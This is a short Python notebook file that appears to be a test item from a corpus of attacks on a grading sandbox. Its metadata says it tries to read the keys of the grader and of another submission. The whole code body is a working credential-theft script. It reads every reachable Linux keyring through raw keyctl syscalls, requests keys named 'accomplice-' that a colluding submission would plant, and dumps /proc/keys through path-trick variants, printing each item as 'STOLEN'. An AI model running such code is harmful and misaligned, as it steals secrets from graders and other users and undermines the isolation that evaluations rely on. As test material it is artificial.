# ---
# jupyter:
#   corpus:
#     title: keys of the grader and of another submission
#     attempts: reads all keys that it finds in keyrings, by name, by number, and in /proc
#     points: {1a: 0, 2: 0, 3: 0}
#     flags: [process, files]
#     reference: false
# ---

# %% after="imports"
import ctypes
import os

assert os.uname().machine == "x86_64", "numbers of calls there"

libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY, REQUEST_KEY, KEYCTL = 248, 249, 250  # on x86-64
RINGS = {"thread": -1, "process": -2, "session": -3, "user": -4, "user session": -5}

def told(key, operation):
    buffer = ctypes.create_string_buffer(10_000)
    size = libc.syscall(KEYCTL, operation, ctypes.c_int(key), buffer, 10_000)
    return buffer.raw[:size] if size >= 0 else None


for name, ring in RINGS.items():
    description, members = told(ring, 6), told(ring, 11) or b""
    if description:
        print("STOLEN: the keyring of the", name, description)
    for place in range(0, len(members), 4):
        key = int.from_bytes(members[place : place + 4], "little", signed=True)
        print("STOLEN:", told(key, 6), told(key, 11))
    found = libc.syscall(REQUEST_KEY, b"user", b"accomplice-" + name.encode(), None, ctypes.c_int(0))
    if found >= 0:
        print("STOLEN: found", told(found, 11))
for path in ("/proc/keys", "/proc/self/root/proc/keys", "/proc/thread-self/../../keys", "/proc/key-users"):
    try:
        listed = open(path).read()
    except OSError:
        continue
    for line in listed.splitlines():
        print("STOLEN:", path, line)
        try:
            print("STOLEN:", told(int(line.split()[0], 16), 11))
        except ValueError:
            pass
